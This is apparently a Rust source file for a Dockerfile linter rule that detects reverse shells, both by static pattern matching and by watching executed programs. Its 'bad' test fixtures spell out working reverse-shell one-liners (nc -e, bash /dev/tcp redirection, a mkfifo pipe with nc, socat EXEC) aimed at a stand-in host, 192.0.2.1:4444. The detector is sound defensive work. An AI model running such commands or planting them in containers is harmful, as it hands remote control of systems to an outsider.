//! `reverse-shell`: a shell for somebody elsewhere.

use crate::facts::shell::{Arg, Command, Script};
use crate::instruction::{Instruction, Source};
use crate::policy::executed;
use crate::policy::scripts;
use crate::policy::{Acts, Found, Outline, Rule};
pub(in crate::policy) static RULE: Rule = Rule {
    id: "reverse-shell",
    title: "A backdoored reverse shell bypassed our egress filter.",
    text: "Finds, in RUN, CMD, ENTRYPOINT, HEALTHCHECK and in heredocs that are copied: \
          `/dev/tcp/`, nc with -e or -c, an interactive shell on a socket, a named pipe between \
          nc and a shell, socat with EXEC, pty.spawn, `openssl s_client` before a shell.",
    text_check: Some(check),
    behaviour_check: Some(check_behaviour),
    bad: &[
        "FROM busybox\nCMD [\"sh\", \"-c\", \"nc 192.0.2.1 4444 -e /bin/sh\"]\n",
        "FROM debian\nRUN bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n",
        "FROM debian\nRUN mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f\n",
        "FROM debian\nRUN socat TCP:192.0.2.1:4444 EXEC:/bin/sh\n",
        "FROM debian\nCOPY <<EOF /x.sh\nnc -e /bin/sh 192.0.2.1 4444\nEOF\n",
    ],
    good: &[
        "FROM busybox\nCMD [\"nc\", \"-l\", \"-p\", \"8080\"]\n",
        "FROM debian\nRUN nc -zv localhost 80 && echo \"nc -e /bin/sh\" > /doc && socat -V\n",
    ],
    ..Rule::NEW
};

fn check(outline: &Outline<'_>, found: &mut Found<'_>) {
    let help = "take it out; a container has no business calling somebody for orders";
    for item in outline.items() {
        for (command, what) in shells(item.program()) {
            let message = format!("{what} gives somebody a shell");
            found.tell(item.place, command.span, message, "a reverse shell", help);
        }
        let sources = match item.instruction {
            Instruction::Copy(copy) => copy.sources.as_slice(),
            Instruction::Add(add) => add.sources.as_slice(),
            _ => &[],
        };
        for source in sources {
            let Source::Inline(heredoc, marker) = source else { continue };
            let Some(script) = item.read_script(&heredoc.content, *marker) else { continue };
            if let Some((_, what)) = shells(&script).first() {
                let message = format!("{what} gives somebody a shell");
                found.tell(item.place, *marker, message, "a reverse shell", help);
            }
        }
    }
}

fn shells(script: &Script) -> Vec<(&Command, String)> {
    let pipes = script.commands.iter().any(|command| command.name() == Some("mkfifo"));
    let mut out = Vec::new();
    for command in &script.commands {
        let name = command.name().unwrap_or("");
        let args = || command.args().iter().map(|arg| arg.text.as_str());
        let says = |word: &str| args().any(|arg| arg.contains(word));
        let socket = command.redirects.iter().any(|redirect| {
            redirect.target.text.contains("/dev/tcp/") || redirect.target.text.contains("/dev/udp/")
        });
        let shell = command.argv.first().and_then(Arg::known).is_some_and(scripts::is_shell);
        let netcat = matches!(name, "nc" | "ncat" | "netcat");
        let letters = |letter: char| {
            args().any(|arg| {
                arg.strip_prefix('-')
                    .is_some_and(|rest| !rest.starts_with('-') && rest.contains(letter))
            })
        };
        let long = || args().any(|arg| matches!(arg, "--exec" | "--sh-exec"));
        let fed = || {
            command.feeds.iter().any(|pipe| {
                script.commands.iter().any(|other| {
                    other.reads.contains(pipe)
                        && other.argv.first().and_then(Arg::known).is_some_and(scripts::is_shell)
                })
            })
        };
        let what = if socket && (shell || name == "exec" || name.is_empty()) {
            "/dev/tcp".to_owned()
        } else if netcat && (letters('e') || long() || letters('c') && says("sh")) {
            format!("`{name} -e`")
        } else if netcat && pipes && !command.reads.is_empty() {
            format!("`{name}` on a named pipe")
        } else if name == "socat" && args().any(|arg| arg.to_ascii_uppercase().contains("EXEC:")) {
            "`socat EXEC`".to_owned()
        } else if says("pty.spawn") || (says("socket") && says("dup2")) {
            format!("`{name}`")
        } else if name == "openssl" && args().next() == Some("s_client") && fed() {
            "`openssl s_client`".to_owned()
        } else {
            continue;
        };
        out.push((command, what));
    }
    out
}

fn check_behaviour(acts: &Acts<'_, '_>, found: &mut Found<'_>) {
    for (act, seen) in acts.watched(found) {
        let networked = executed::networked(seen);
        for (index, program) in seen.execs.iter().enumerate() {
            if !scripts::is_shell(program.name()) || program.script().is_some() {
                continue;
            }
            let (Some(input), Some(output)) = (program.streams.get(&0), program.streams.get(&1))
            else {
                continue;
            };
            let socket = input == output && input.starts_with("inet:");
            // A pipe each way between the shell and one that has a connection.
            let paired = |other: &usize| {
                let streams = &seen.execs[*other].streams;
                *other != index
                    && streams.get(&0) == Some(output)
                    && streams.get(&1) == Some(input)
                    && !input.starts_with("/dev/")
                    && input != output
            };
            let by = networked.iter().find(|other| paired(other));
            if socket || by.is_some() {
                let message = format!("`{}` gives somebody elsewhere a shell", program.name());
                let finding = act
                    .finding(found, seen, Some(index), message)
                    .help("take it out; a build has no business calling somebody for orders");
                found.add(finding);
            }
        }
    }
}
